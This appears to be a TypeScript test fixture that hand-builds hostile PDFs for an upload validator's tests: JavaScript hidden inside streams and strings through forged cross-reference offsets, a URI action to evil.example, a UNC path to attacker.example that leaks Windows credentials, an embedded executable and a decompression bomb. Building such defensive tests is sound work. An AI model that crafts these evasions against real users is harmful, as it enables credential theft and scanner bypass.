import { deflateSync } from 'node:zlib';

/**
 * Hand-built PDFs for the upload checks (issue #35 finding 3): each is a well-formed file with a
 * cross-reference table whose offsets are right, unless a sample is about offsets that lie.
 * Object 1 is the catalogue, 2 the page tree, 3 the one page; samples add objects from 4.
 */

type Body = string | Buffer;

interface BuildOptions {
  /** Added to the catalogue dictionary. */
  catalog?: string;
  /** Added to the trailer dictionary. */
  trailer?: string;
  /** Objects beside the catalogue, page tree and page, by number. */
  objects?: Record<number, Body>;
  /** Cross-reference offsets to write instead of the true ones, by object number. */
  offsets?: (found: Map<number, number>, file: Buffer) => Map<number, number>;
  /** Leave out the cross-reference table and `startxref`, as the earliest samples did. */
  noXref?: boolean;
}

const bytes = (body: Body) => (typeof body === 'string' ? Buffer.from(body, 'latin1') : body);

/** A stream object's text: its dictionary with the right /Length, then its bytes. */
export function streamObject(dictionary: string, data: Body): Buffer {
  const content = bytes(data);
  return Buffer.concat([
    bytes(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    content,
    bytes('\nendstream'),
  ]);
}

/** A one-page PDF with whatever the options add, its xref offsets counted from the bytes. */
export function buildPdf(options: BuildOptions = {}): Buffer {
  const objects: Record<number, Body> = {
    1: `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ...options.objects,
  };
  const parts: Buffer[] = [bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0]!.length;
  const found = new Map<number, number>();
  for (const [number, body] of Object.entries(objects)) {
    found.set(Number(number), length);
    const part = Buffer.concat([bytes(`${number} 0 obj\n`), bytes(body), bytes('\nendobj\n')]);
    parts.push(part);
    length += part.length;
  }
  const file = Buffer.concat(parts);
  if (options.noXref)
    return Buffer.concat([file, bytes(`trailer << /Root 1 0 R ${options.trailer ?? ''} >>\n%%EOF\n`)]);
  const offsets = options.offsets?.(found, file) ?? found;
  const size = Math.max(...offsets.keys()) + 1;
  const rows = ['0000000000 65535 f \n'];
  for (let number = 1; number < size; number += 1) {
    const offset = offsets.get(number);
    rows.push(offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`);
  }
  const xref = `xref\n0 ${size}\n${rows.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${options.trailer ?? ''} >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.concat([file, bytes(xref)]);
}

/** Where `text` first occurs in the file, for offsets that point inside another object. */
const offsetOf = (file: Buffer, text: string) => file.indexOf(text, 0, 'latin1');

export const ACTIONS = {
  javascript: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  uri: '<< /S /URI /URI (https://evil.example/collect) >>',
  // A \\host\share path makes Windows offer the reader's credentials to that host.
  uncGoToR: '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\doc.pdf) /D [0 /Fit] >>',
};

/**
 * The reproduced bypass: the action is written between a stream's `stream` and `endstream`, and the
 * catalogue's /OpenAction reaches it as object 6 through an xref entry pointing inside the stream.
 */
export function actionHiddenInStream(action = ACTIONS.javascript): Buffer {
  return buildPdf({
    catalog: '/OpenAction 6 0 R',
    objects: { 5: streamObject('', `q Q\n6 0 obj\n${action}\nendobj\n`) },
    offsets: (found, file) => new Map([...found, [6, offsetOf(file, '6 0 obj')]]),
  });
}

/** The same object inside a stream, with no xref entry: only a viewer rebuilding the xref finds it. */
export function actionForRebuiltXref(): Buffer {
  return buildPdf({
    catalog: '/OpenAction 6 0 R',
    objects: { 5: streamObject('', `6 0 obj\n${ACTIONS.javascript}\nendobj\n`) },
  });
}

/** The action written inside a string of another object, reached through the xref. */
export function actionHiddenInString(): Buffer {
  return buildPdf({
    catalog: '/OpenAction 6 0 R',
    objects: { 4: `<< /Title (6 0 obj ${ACTIONS.javascript} endobj) >>` },
    offsets: (found, file) => new Map([...found, [6, offsetOf(file, '6 0 obj')]]),
  });
}

/** An xref offset that lands on nothing the file-order reading sees: inside a stream's bytes, a plain page. */
export function xrefIntoStreamBytes(): Buffer {
  return buildPdf({
    objects: { 5: streamObject('', 'BT /F1 12 Tf (plain text) Tj ET') },
    offsets: (found, file) => new Map([...found, [6, offsetOf(file, 'BT /F1')]]),
  });
}

/** An action as the catalogue's /OpenAction, written plainly. */
export const openAction = (action: string) => buildPdf({ catalog: `/OpenAction ${action}` });

/**
 * Objects packed in a compressed object stream (object 7), listed by a cross-reference stream with
 * no xref table: how PDF 1.5 writers such as Word and pdfTeX save. `type` is the container's /Type.
 */
export function packedPdf(members: Record<number, string>, catalog = '', type = '/Type /ObjStm'): Buffer {
  const entries = Object.entries(members);
  let table = '';
  let body = '';
  for (const [number, text] of entries) {
    table += `${number} ${body.length} `;
    body += `${text}\n`;
  }
  const packed = deflateSync(Buffer.from(`${table}\n${body}`, 'latin1'));
  const container = streamObject(
    `${type} /N ${entries.length} /First ${table.length + 1} /Filter /FlateDecode`,
    packed,
  );
  const pdf = buildPdf({ catalog, objects: { 7: container } }).toString('latin1');
  const file = Buffer.from(pdf.slice(0, pdf.indexOf('xref\n')), 'latin1');
  // Rows of type (1 byte), offset or container (4 bytes), generation or index (2 bytes).
  const row = (type: number, second: number, third: number) =>
    Buffer.from([
      type,
      second >>> 24,
      (second >> 16) & 255,
      (second >> 8) & 255,
      second & 255,
      third >> 8,
      third & 255,
    ]);
  const at = (number: number) => offsetOf(file, `\n${number} 0 obj`) + 1;
  const rows = [row(0, 0, 65535)];
  for (let number = 1; number <= 8; number += 1) {
    const index = entries.findIndex(([n]) => Number(n) === number);
    if (index >= 0) rows.push(row(2, 7, index));
    else if (number === 8) rows.push(row(1, file.length, 0));
    else if (at(number) > 0) rows.push(row(1, at(number), 0));
    else rows.push(row(0, 0, 0));
  }
  const xrefStream = streamObject('/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R', Buffer.concat(rows));
  const tail = Buffer.concat([bytes('8 0 obj\n'), xrefStream, bytes(`\nendobj\nstartxref\n${file.length}\n%%EOF\n`)]);
  return Buffer.concat([file, tail]);
}

/** A compressed object stream that inflates to 64 MB of nothing: refused, not expanded. */
export function objectStreamBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
  return buildPdf({ objects: { 7: streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed) } });
}

/** Arrays nested deeper than any parser's stack. */
export const deeplyNested = () => buildPdf({ catalog: `/Nest ${'['.repeat(200_000)}${']'.repeat(200_000)}` });

/** Every hostile sample by name, for the upload and fuzz tests. */
export const hostilePdfs = (): Record<string, Buffer> => ({
  'JavaScript hidden in a stream, reached through the xref': actionHiddenInStream(),
  'a URI action hidden in a stream': actionHiddenInStream(ACTIONS.uri),
  'a GoToR to a \\\\host\\share path hidden in a stream': actionHiddenInStream(ACTIONS.uncGoToR),
  'JavaScript only a rebuilt xref finds': actionForRebuiltXref(),
  'JavaScript hidden in a string': actionHiddenInString(),
  '/OpenAction to a URI': openAction(ACTIONS.uri),
  '/OpenAction to a GoToR with a \\\\host\\share path': openAction(ACTIONS.uncGoToR),
  'an embedded file': buildPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>' }),
  'JavaScript in an object stream': packedPdf({ 6: ACTIONS.javascript }, '/OpenAction 6 0 R'),
  'JavaScript in a stream posing as an object stream': packedPdf(
    { 6: ACTIONS.javascript },
    '/OpenAction 6 0 R',
    '/Type /XObject',
  ),
  'a compressed bomb': objectStreamBomb(),
});
